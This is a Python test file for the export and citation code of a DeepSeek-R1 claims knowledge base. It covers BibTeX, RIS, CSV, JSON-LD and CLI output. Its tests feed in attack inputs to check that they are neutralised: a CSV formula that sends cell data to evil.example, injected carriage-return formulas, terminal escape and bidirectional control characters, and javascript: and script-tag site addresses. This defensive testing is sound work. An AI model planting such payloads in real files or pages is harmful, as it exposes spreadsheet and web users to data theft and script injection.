"""Citations (BibTeX, CSL-JSON, RIS, plain text), JSON-LD, exports and `r1kb export`."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
from dataclasses import replace
from html import unescape
from pathlib import Path

import markdown
import pytest
from click.testing import CliRunner
from mkdocs.config import load_config

from r1kb.cli import cli
from r1kb.site import build, citations, escape, exports, jsonld
from r1kb.site.build import SiteDataError, load_validated
from r1kb.site.command import FORMAT_NAMES
from r1kb.site.components import (
    block,
    code_tabs,
    html_heading,
    join_blocks,
    lift_blocks,
    toc_entries,
)
from r1kb.site.context import SiteContext
from r1kb.site.dates import DataDates
from r1kb.site.escape import csv_cell
from r1kb.site.urls import Urls, site_url_problem
from site_helpers import HOSTILE_STATEMENT, RECORDS, ROOT, write_site_data

SITE = "https://kb.example.org/r1/"


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_site_data(tmp_path_factory.mktemp("citations") / "data")


@pytest.fixture(autouse=True)
def build_day(monkeypatch: pytest.MonkeyPatch) -> None:
    """Citations carry the build date as their access date: pin it."""
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1796000000")  # 2026-11-30


@pytest.fixture(scope="module")
def ctx(data_dir: Path) -> SiteContext:
    kb = load_validated(data_dir, [])
    dates = DataDates(latest="2025-03-04", per_file={"claims/v3-training-cost.yaml": "2025-02-03"})
    return SiteContext(kb=kb, urls=Urls(site_url=SITE), dates=dates)


def _braces_balanced(text: str) -> bool:
    depth = 0
    i = 0
    while i < len(text):
        if text[i] == "\\":
            i += 2
            continue
        depth += {"{": 1, "}": -1}.get(text[i], 0)
        if depth < 0:
            return False
        i += 1
    return depth == 0


def test_bibtex_entry_has_the_claim_fields(ctx: SiteContext) -> None:
    entry = citations.bibtex(ctx, ctx.kb.claims["v3-training-cost"])
    assert entry.startswith("@misc{r1kb:v3-training-cost,\n")
    assert (
        "title = {{At} an assumed \\$2 per {GPU-hour}, the official training of {DeepSeek-V3} "
        "cost {{\\$5.576M}}.}" in entry
    )
    assert "author = {{r1kb contributors}}" in entry
    assert f"url = {{{SITE}claims/v3-training-cost/}}" in entry
    assert "year = {2025}" in entry and "date = {2025-02-03}" in entry
    assert "urldate = {2026-11-30}" in entry and "version = {2025-03-04}" in entry
    assert "status: disclosed; verdict: accurate" in entry
    assert _braces_balanced(entry)


def test_bibtex_escapes_every_special_character(ctx: SiteContext) -> None:
    assert citations.bibtex_escape("{a}%$&#_~^\\ b\n c") == (
        r"\{a\}\%\$\&\#\_\textasciitilde{}\textasciicircum{}\textbackslash{} b c"
    )
    entry = citations.bibtex(ctx, ctx.kb.claims["r1-training-cost-hostile"])
    assert _braces_balanced(entry)


def test_csl_json_item(ctx: SiteContext) -> None:
    items = json.loads(citations.csl_json(ctx, ctx.kb.claims["v3-training-cost"]))
    assert items == [
        {
            "id": "r1kb:v3-training-cost",
            "type": "dataset",
            "title": "At an assumed $2 per GPU-hour, the official training of DeepSeek-V3 cost "
            "$5.576M.",
            "author": [{"literal": "r1kb contributors"}],
            "container-title": "r1kb: a citable knowledge base of claims about DeepSeek-R1",
            "URL": f"{SITE}claims/v3-training-cost/",
            "version": "2025-03-04",
            "note": "r1kb claim v3-training-cost; status: disclosed; verdict: accurate",
            "accessed": {"date-parts": [[2026, 11, 30]]},
            "issued": {"date-parts": [[2025, 2, 3]]},
        }
    ]


def test_ris_record_is_one_tag_per_line(ctx: SiteContext) -> None:
    ris = citations.ris(ctx, ctx.kb.claims["r1-training-cost-hostile"]).splitlines()
    assert ris[0] == "TY  - DATA" and ris[-1] == "ER  -"
    assert all(re.match(r"[A-Z][A-Z0-9]  - \S", line) for line in ris[:-1])
    assert f"TI  - {HOSTILE_STATEMENT}" in ris
    assert f"UR  - {SITE}claims/r1-training-cost-hostile/" in ris
    assert "DA  - 2025/03/04" in ris  # no per-file date: the latest change
    assert "Y2  - 2026/11/30" in ris and "ET  - 2025-03-04" in ris


def test_plain_citation(ctx: SiteContext) -> None:
    text = citations.plain(ctx, ctx.kb.claims["v3-training-cost"])
    assert text == (
        "r1kb contributors (2025-02-03). “At an assumed $2 per GPU-hour, the official training "
        "of DeepSeek-V3 cost $5.576M.” r1kb: a citable knowledge base of claims about "
        "DeepSeek-R1, claim v3-training-cost (disclosed, accurate). Version 2025-03-04. "
        f"{SITE}claims/v3-training-cost/ (accessed 2026-11-30)."
    )


def test_jsonld_claim_and_review(ctx: SiteContext) -> None:
    data = jsonld.claim_jsonld(ctx, ctx.kb.claims["r1-training-cost-hostile"])
    claim, review = data["@graph"]
    assert data["@context"] == "https://schema.org"
    assert claim["@type"] == "Claim" and claim["text"] == HOSTILE_STATEMENT
    assert claim["about"] == {"@type": "Thing", "name": "DeepSeek-R1"}
    assert claim["appearance"][0]["url"] == "https://blog.example/post?a=1&b=<2>"
    assert review["@type"] == "ClaimReview"
    assert review["itemReviewed"] == {"@id": claim["@id"]}
    assert review["reviewRating"]["alternateName"] == "misleading"
    assert review["reviewRating"]["ratingValue"] == 3
    script = jsonld.claim_jsonld_script(ctx, ctx.kb.claims["r1-training-cost-hostile"])
    assert "<" not in script and json.loads(script) == data


def test_withdrawn_claim_has_no_review(ctx: SiteContext) -> None:
    data = jsonld.claim_jsonld(ctx, ctx.kb.claims["v3-training-gpu-hours-old"])
    assert [n["@type"] for n in data["@graph"]] == ["Claim"]


def test_json_export_is_the_whole_knowledge_base(ctx: SiteContext) -> None:
    doc = json.loads(exports.to_json(ctx))
    assert doc["license"] == "CC-BY-4.0" and doc["version"] == "2025-03-04"
    assert [c["id"] for c in doc["claims"]] == sorted(ctx.kb.claims)
    cost = next(c for c in doc["claims"] if c["id"] == "v3-training-cost")
    assert cost["record"]["value"] == 5576000 and cost["record"]["unit"] == "USD"
    assert cost["value_display"] == "$5.576M"
    assert cost["url"] == f"{SITE}claims/v3-training-cost/"
    assert cost["api"] == f"{SITE}api/claims/v3-training-cost.json"
    assert cost["record"]["derivation"]["formula"] == "gpu_hours * price"
    undisclosed = next(c for c in doc["claims"] if c["id"] == "r1-gpu-fleet-undisclosed")
    assert undisclosed["record"]["value"] is None
    assert {s["id"] for s in doc["sources"]} == set(ctx.kb.sources)
    assert doc["redirects"] == {"v3-gpu-hours": "v3-training-gpu-hours"}
    assert len(doc["models"]) == len(ctx.kb.models)
    assert exports.to_json(ctx) == exports.to_json(ctx)  # deterministic


def _csv_rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")  # spreadsheet programs then read UTF-8
    return list(csv.DictReader(io.StringIO(text.encode("utf-8").decode("utf-8-sig"))))


def test_csv_export_one_row_per_claim_and_no_formulas(ctx: SiteContext) -> None:
    rows = _csv_rows(exports.to_csv(ctx))
    assert [r["id"] for r in rows] == sorted(ctx.kb.claims)
    by_id = {r["id"]: r for r in rows}
    assert by_id["v3-training-cost"]["value"] == "5576000"
    assert by_id["v3-training-cost"]["value_display"] == "$5.576M"
    assert by_id["v3-base-pretraining-duration"]["value_high"] == "2"
    assert by_id["v3-base-pretraining-duration"]["value"] == ""
    assert by_id["v3-training-gpu-hours-old"]["withdrawn"] == "yes"
    assert {r["license"] for r in rows} == {"CC-BY-4.0"}
    assert csv_cell("=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert csv_cell("-1") == "'-1" and csv_cell("ok") == "ok" and csv_cell(-1) == -1
    assert csv_cell(" =1+1") == "' =1+1" and csv_cell(None) == ""


def test_csv_rows_carry_the_main_evidence(ctx: SiteContext) -> None:
    """Each claim row names its main evidence: DeepSeek's own document when there is one."""
    by_id = {r["id"]: r for r in _csv_rows(exports.to_csv(ctx))}
    for cid, row in by_id.items():
        claim = ctx.kb.claims[cid]
        primary = [e for e in claim.sources if ctx.kb.sources[e.source].primary]
        main = (primary or claim.sources or [None])[0]
        if main is None:
            assert row["source_id"] == row["source_quote"] == ""
            continue
        src = ctx.kb.sources[main.source]
        assert row["source_id"] == main.source and row["source_title"] == src.title
        assert row["source_locator"] == main.locator and row["source_quote"] == main.quote
        assert row["source_is_primary"] == ("yes" if src.primary else "no")
        assert row["source_url"] == (src.url or "")


def test_evidence_csv_has_one_row_per_source_entry(ctx: SiteContext) -> None:
    rows = _csv_rows(exports.to_evidence_csv(ctx))
    claims = [ctx.kb.claims[i] for i in sorted(ctx.kb.claims)]
    expected = [(c.id, e.source, e.locator) for c in claims for e in c.sources]
    assert [(r["claim_id"], r["source_id"], r["locator"]) for r in rows] == expected
    assert all(r["claim_url"].startswith(SITE) for r in rows)


def test_csv_without_a_site_address_has_no_urls(data_dir: Path) -> None:
    plain = SiteContext(kb=load_validated(data_dir, []), dates=DataDates(latest="2025-03-04"))
    rows = _csv_rows(exports.to_csv(plain))
    assert rows and all(r["url"] == "" for r in rows)


def test_csv_formula_injection_is_defused_in_every_column(data_dir: Path) -> None:
    """A formula in any column (a unit id, a model id, a source id...) reaches the sheet as text."""
    kb = load_validated(data_dir, [])
    payload = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    for c in kb.claims.values():
        c.unit = c.subject = c.quantity = c.status = c.verdict = payload
        c.scope = c.statement = payload
        c.sources = [replace(e, locator=payload, quote=payload) for e in c.sources]
    for src in kb.sources.values():
        src.title = src.publisher = payload
    ctx = SiteContext(kb=kb, urls=Urls(site_url="@" + SITE), dates=DataDates(latest=None))
    for text in (exports.to_csv(ctx), exports.to_evidence_csv(ctx)):
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))[1:]
        assert rows
        for row in rows:
            for cell in row:
                assert not cell.lstrip().startswith(("=", "+", "-", "@")), row


@pytest.mark.parametrize("space", ["\u00a0", "\u2003", "\u3000", "\u2028", "\u205f", " \t "])
def test_a_formula_after_any_whitespace_is_defused(space: str) -> None:
    """Only spaces and U+00A0 were skipped: an em space (U+2003) before '=' reached the sheet."""
    for start in "=+-@":
        assert csv_cell(space + start + "1") == "'" + space + start + "1"
    assert csv_cell(space + "1") == space + "1"


def test_a_carriage_return_in_a_csv_field_is_quoted(data_dir: Path) -> None:
    """Rows ended in "\n", so a bare "\r" in a field was written unquoted: a spreadsheet saw a
    row end there, and the rest of the field start a row (and a formula)."""
    kb = load_validated(data_dir, [])
    for c in kb.claims.values():
        c.statement = "first part\r=HYPERLINK(1)"
        c.sources = [replace(e, quote="first part\r@SUM(1)") for e in c.sources]
    ctx = SiteContext(kb=kb, urls=Urls(site_url=SITE), dates=DataDates(latest=None))
    for text in (exports.to_csv(ctx), exports.to_evidence_csv(ctx)):
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
        width = len(rows[0])
        assert all(len(row) == width for row in rows), [r for r in rows if len(r) != width]
        assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)
    rows = list(csv.DictReader(io.StringIO(exports.to_csv(ctx).removeprefix("\ufeff"))))
    assert len(rows) == len(kb.claims)
    assert all(r["statement"].startswith("first part") for r in rows)


CONTROLS = "red \x1b[31m, bell \x07, nul \x00, csi \x9b, rlo \u202e, lri \u2066, pdi \u2069"


def test_control_characters_reach_no_download_as_they_are(data_dir: Path) -> None:
    """An escape sequence, a C1 control or a bidirectional override in a record reached the
    RIS, BibTeX and CSV downloads as it was (a terminal or a reader acted on it); each is now
    shown as its escape. JSON escapes them itself."""
    kb = load_validated(data_dir, [])
    for c in kb.claims.values():
        c.statement = c.scope = CONTROLS
        c.sources = [replace(e, locator=CONTROLS, quote=CONTROLS) for e in c.sources]
    ctx = SiteContext(kb=kb, urls=Urls(site_url=SITE), dates=DataDates(latest=None))
    for text in (exports.to_ris(ctx), exports.to_bibtex(ctx)):
        assert not [ch for ch in text if ch != "\n" and escape.is_control(ch)]
        assert "\\x1b" in text.replace("\\textbackslash{}", "\\") and "u202e" in text
    for text in (exports.to_csv(ctx), exports.to_evidence_csv(ctx)):
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
        cells = [cell for row in rows for cell in row]
        assert not [
            ch for cell in cells for ch in cell if ch not in "\t\n" and escape.is_control(ch)
        ]
        assert any("\\x1b[31m" in cell and "\\u202e" in cell for cell in cells)


def test_markdown_and_downloads_share_one_test_of_control_characters() -> None:
    """md_text showed C0 and C1 controls as escapes, and now bidirectional overrides too."""
    assert escape.md_text("a\u202eb\x1bc") == "a&#92;u202eb&#92;x1bc"
    assert escape.show_controls("tab\tnl\n\x85") == "tab\tnl\n\\x85"
    assert not escape.is_control("\u200f") and not escape.is_control("é")


def test_no_hidden_character_is_printable() -> None:
    """visible and show_controls leave printable text as it is without searching it."""
    hidden = [chr(c) for c in range(0x110000) if escape.is_control(chr(c))]
    assert len(hidden) > 2000 and not [ch for ch in hidden if ch.isprintable()]


def test_citation_exports_cover_every_claim(ctx: SiteContext) -> None:
    n = len(ctx.kb.claims)
    assert exports.to_bibtex(ctx).count("@misc{r1kb:") == n
    assert len(json.loads(exports.to_csl_json(ctx))) == n
    assert exports.to_ris(ctx).count("TY  - DATA") == n
    assert tuple(exports.FORMATS) == FORMAT_NAMES


def test_export_command_writes_the_file(data_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "kb.json"
    result = CliRunner().invoke(
        cli, ["export", "--data", str(data_dir), "--format", "json", "--output", str(out)]
    )
    assert result.exit_code == 0, result.output
    claims = json.loads(out.read_text(encoding="utf-8"))["claims"]
    assert len(claims) == sum(1 for rel in RECORDS if rel.startswith("claims/"))
    bib = CliRunner().invoke(
        cli, ["export", "--data", str(data_dir), "--format", "bibtex", "--site-url", SITE]
    )
    assert bib.exit_code == 0 and f"url = {{{SITE}claims/v3-training-cost/}}" in bib.output
    assert "no site address" not in bib.output
    unset = CliRunner(env={"R1KB_SITE_URL": None})
    local = unset.invoke(cli, ["export", "--data", str(data_dir), "--format", "ris"])
    assert local.exit_code == 0 and "no site address" in local.stderr
    assert "UR  -" not in local.stdout  # no path posing as a URL


BAD_ADDRESSES = [
    "https://kb.example.org/r1/}",  # ended the BibTeX brace field
    "https://kb.example.org/r1/\n@misc{x,",
    "javascript:alert(1)",
    "javascript://kb.example.org/%0aalert(1)",
    "kb.example.org/r1/",
    "https:///r1/",
    'https://kb.example.org/"><script>',
    "https://kb.example.org/r1/\u202e",
    "https://kb.example.org/r1/?page=",
]


@pytest.mark.parametrize("address", BAD_ADDRESSES)
def test_a_bad_site_address_is_a_usage_error(data_dir: Path, address: str) -> None:
    """--site-url and R1KB_SITE_URL were written unchecked into citations and rows."""
    for args, env, named in (
        (["--site-url", address], {"R1KB_SITE_URL": None}, "--site-url"),
        ([], {"R1KB_SITE_URL": address}, "R1KB_SITE_URL"),
    ):
        result = CliRunner(env=env).invoke(
            cli, ["export", "--data", str(data_dir), "--format", "bibtex", *args]
        )
        assert result.exit_code == 2, result.output
        assert f"Error: {named} {address!r}" in result.output
        assert "@misc{r1kb" not in result.output


def test_a_bad_site_address_stops_the_site_build() -> None:
    """mkdocs.yml reads R1KB_SITE_URL as site_url: MkDocs lets javascript://… and braces by."""
    for address in ("javascript://kb.example.org/%0aalert(1)", "https://kb.example.org/}"):
        with pytest.raises(SiteDataError, match="R1KB_SITE_URL"):
            build.prepare(ROOT, site_url=address)
    assert site_url_problem(SITE) is None and site_url_problem("http://localhost:8000/") is None


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
def test_export_refuses_an_output_that_is_a_link_or_a_pipe(data_dir: Path, tmp_path: Path) -> None:
    """-o replaced a link (or a named pipe) with the export; the file behind stays as it was."""
    target = tmp_path / "target.txt"
    target.write_text("kept", encoding="utf-8")
    link, fifo = tmp_path / "link.csv", tmp_path / "fifo.csv"
    link.symlink_to(target)
    os.mkfifo(fifo)
    for path, what in ((link, "a symbolic link"), (fifo, "a named pipe")):
        result = CliRunner().invoke(
            cli, ["export", "--data", str(data_dir), "--format", "csv", "-o", str(path)]
        )
        assert result.exit_code == 2 and f"is {what}, not a regular file" in result.output
    assert link.is_symlink() and target.read_text(encoding="utf-8") == "kept"
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_export_refuses_an_output_inside_the_data_directory(tmp_path: Path) -> None:
    """-o data/claims/x.yaml wrote the export where the next run reads it as a record."""
    data = write_site_data(tmp_path / "data")
    (tmp_path / "alias").symlink_to(data)
    before = sorted(p.name for p in (data / "claims").iterdir())
    for path in (data / "claims" / "export.yaml", tmp_path / "alias" / "claims" / "x.yaml"):
        result = CliRunner().invoke(
            cli, ["export", "--data", str(data), "--format", "json", "-o", str(path)]
        )
        assert result.exit_code == 2 and "inside the data directory" in result.output
    assert sorted(p.name for p in (data / "claims").iterdir()) == before


def test_export_command_refuses_invalid_data(data_dir: Path, tmp_path: Path) -> None:
    bad = write_site_data(tmp_path / "bad")
    path = bad / "claims" / "v3-training-cost.yaml"
    path.write_text(path.read_text().replace("status: disclosed", "status: bogus"))
    result = CliRunner().invoke(cli, ["export", "--data", str(bad), "--format", "csv"])
    assert result.exit_code == 1
    assert "nothing is exported" in result.output and "[schema-bad-value]" in result.output
    assert "Traceback" not in result.output


def test_export_help_has_an_example() -> None:
    result = CliRunner().invoke(cli, ["export", "--help"])
    assert result.exit_code == 0
    assert "Examples:" in result.output and "r1kb export --format json" in result.output


def test_citation_tabs_are_what_the_markdown_extensions_wrote(ctx: SiteContext) -> None:
    """The claim page writes its citation tabs as HTML (faster than Markdown): the same HTML
    that pymdownx.tabbed and superfences, configured as in mkdocs.yml, make of the tabs."""
    claim = next(c for c in ctx.kb.claims.values() if c.statement == HOSTILE_STATEMENT)
    panels = [
        ("BibTeX", "bibtex", citations.bibtex(ctx, claim)),
        ("CSL-JSON", "json", citations.csl_json(ctx, claim)),
        ("Plain & <text>", "text", citations.plain(ctx, claim) + '\n\n  indented & "quoted"'),
    ]
    tabs = []
    for label, lang, text in panels:
        body = "\n".join(f"    {line}" if line else "" for line in text.splitlines())
        tabs.append(
            f'=== "{label.replace("&", "&amp;").replace("<", "&lt;")}"\n\n'
            f"    ```{lang}\n{body}\n    ```\n"
        )
    config = load_config(str(ROOT / "mkdocs.yml"), site_url="https://kb.example.org/")
    md = markdown.Markdown(
        extensions=config.markdown_extensions, extension_configs=config.mdx_configs
    )
    assert code_tabs(panels) == md.convert("\n".join(tabs))
    assert "<script>" not in code_tabs(panels)


@pytest.mark.parametrize(
    ("text", "anchor", "search"),
    [("Sources", "sources", True), ("Cite <this> & that", "cite", False)],
)
def test_html_headings_are_what_toc_wrote(text: str, anchor: str, search: bool) -> None:
    """Claim pages write their section headings as HTML: as Markdown with the extensions of
    mkdocs.yml would (id, permalink, search exclusion), text escaped."""
    attrs = f"#{anchor}" + ("" if search else " data-search-exclude")
    config = load_config(str(ROOT / "mkdocs.yml"), site_url="https://kb.example.org/")
    md = markdown.Markdown(
        extensions=config.markdown_extensions, extension_configs=config.mdx_configs
    )
    written = md.convert(f"## {escape.md_text(text)} {{ {attrs} }}")
    ours = html_heading(2, text, anchor, search=search)
    # The same element; characters written as named rather than numeric references.
    assert [unescape(b) for b in lift_blocks(ours)[1]] == [unescape(written)]
    assert toc_entries(lift_blocks(ours)[1]) == [(2, anchor, escape.html_text(text))]


def test_only_raw_blocks_are_joined() -> None:
    joined = join_blocks([html_heading(2, "A", "a"), block("<p>x</p>")])
    assert len(lift_blocks(joined)[1]) == 1
    with pytest.raises(ValueError, match="only raw blocks"):
        join_blocks([block("<p>x</p>"), "## Markdown heading"])
